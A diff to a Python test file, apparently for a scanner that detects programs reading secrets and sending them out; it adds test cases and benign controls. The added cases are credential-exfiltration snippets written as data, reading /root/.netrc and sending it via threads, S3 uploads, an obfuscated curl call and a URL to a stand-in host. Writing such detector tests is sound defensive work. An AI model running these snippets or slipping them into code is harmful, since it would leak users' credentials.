@@ -26,6 +26,29 @@ def sent(program: str) -> list[Secret]:
             Secret.DOTENV,
         ),
         ("d = open('.env').read()\n" + POST.format("d"), Secret.DOTENV),
+        (
+            "def send(d):\n  " + POST.format("d") + "k = open('/root/.netrc').read()\n"
+            "threading.Thread(target=send, args=(k,)).start()\n",
+            Secret.CREDENTIALS,
+        ),
+        (
+            "def send(d):\n  " + POST.format("d") + "k = open('/root/.netrc').read()\n"
+            "threading.Timer(9, send, [k]).start()\n",
+            Secret.CREDENTIALS,
+        ),
+        (
+            "def send(d):\n  " + POST.format("d") + "pool.submit(send, open('/root/.netrc').read())\n",
+            Secret.CREDENTIALS,
+        ),
+        ("boto3.client('s3').upload_file('/root/.netrc', 'b', 'k')\n", Secret.CREDENTIALS),
+        (
+            "subprocess.run(['cu' 'rl', '-F', 'f=@' + os.path.expanduser('~/.netrc'), u])\n",
+            Secret.CREDENTIALS,
+        ),
+        (
+            "webbrowser.open('https://x.example.invalid?d=' + open('/root/.netrc').read())\n",
+            Secret.CREDENTIALS,
+        ),
         ("d = open('config/.env.local').read().strip()\n" + POST.format("{'d': d}"), Secret.DOTENV),
         ("t = subprocess.check_output(['gh', 'auth', 'token'])\n" + POST.format("t"), Secret.KEY),
         ("t = os.popen('gcloud auth print-access-token').read()\n" + POST.format("t"), Secret.KEY),
@@ -44,6 +67,9 @@ def test_what_is_read_is_known_where_it_is_sent(program: str, kind: Secret) -> N
         "load_dotenv('.env')\n" + POST.format("{'q': 1}"),
         "if name.endswith('.md'):\n  d = open(name).read()\n" + POST.format("d"),
         "t = subprocess.check_output(['gh', 'auth', 'status'])\n" + POST.format("t"),
+        "subprocess.run(['scp', '-i', '/root/.ssh/id_rsa', 'a.txt', 'me@host:'])\n",
+        "boto3.client('s3').upload_file('report.pdf', 'b', 'k')\n",
+        "threading.Thread(target=work).start()\n" + POST.format("{'q': 1}"),
         "t = subprocess.check_output(['gh', 'auth', 'token'])\nrequests.get(u, headers={'A': t})\n",
     ],
 )
